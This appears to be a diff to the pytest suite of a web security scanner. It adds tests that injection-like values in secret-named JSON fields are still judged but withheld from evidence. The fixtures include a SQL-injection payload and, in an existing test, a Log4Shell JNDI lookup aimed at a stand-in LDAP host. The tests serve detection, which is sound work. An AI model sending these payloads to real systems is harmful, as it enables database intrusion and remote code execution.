@@ -46,6 +46,25 @@ def test_a_json_leaf_is_judged_on_its_own() -> None:
     assert xss[0].severity >= Severity.MEDIUM
 
 
+@pytest.mark.parametrize("field", ["password", "new_pwd", "client_secret", "apiKey", "pin_code"])
+def test_a_value_named_like_a_secret_never_reaches_the_evidence(field: str) -> None:
+    secret = "jy0S'#S|p5QbCM0^_ryJ' OR '1'='1"  # a strong password can look like an attack
+    body = orjson.dumps({"user": "ada", field: secret})
+    exchange = make_exchange(method="POST", body=body, headers={"content-type": "application/json"})
+    found = [f for f in check_injection(exchange, CheckContext()) if f.evidence.get("name")]
+    assert found, "the value should still be judged"
+    for finding in found:
+        assert "jy0S" not in str(finding.evidence)
+        assert finding.evidence["sample"].startswith("[withheld:")
+
+
+def test_an_ordinary_field_keeps_its_masked_sample() -> None:
+    body = orjson.dumps({"spinner": "x' OR '1'='1"})
+    exchange = make_exchange(method="POST", body=body, headers={"content-type": "application/json"})
+    (finding,) = check_injection(exchange, CheckContext())
+    assert "OR '1'='1" in finding.evidence["sample"]
+
+
 def test_jndi_in_a_custom_header() -> None:
     exchange = make_exchange(headers={"x-api-version": "${${lower:j}ndi:ldap://198.51.100.1/a}"})
     assert "log4shell" in _classes(exchange)
